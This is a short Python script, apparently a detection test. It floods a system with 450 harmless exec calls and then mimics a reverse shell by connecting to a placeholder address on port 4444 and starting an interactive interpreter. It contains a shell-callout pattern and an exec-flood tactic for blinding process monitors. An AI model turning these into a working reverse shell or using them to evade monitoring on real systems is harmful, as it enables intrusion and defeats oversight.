# A reverse shell of an interpreter behind a flood of execs: 450 distinct
# runs of a harmless program fill the kernel's exec reserve, then a
# connection and `python -i` relayed to it through pipes (no socket on its
# stdio). The interpreter's exec must survive the flood for the report to
# see the shell (session 19: it was not of interest past the reserve).
import os, socket, subprocess, sys, time
true = "/bin/true" if os.path.exists("/bin/true") else "/usr/bin/true"
for i in range(450):
    subprocess.run([true, "run-%d" % i])
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("203.0.113.9", 4444))
except OSError as e:
    print("connect failed:", e, file=sys.stderr)
    sys.exit(0)
p = subprocess.Popen([sys.executable, "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
time.sleep(1)
p.kill()
p.wait()
print("relayed")
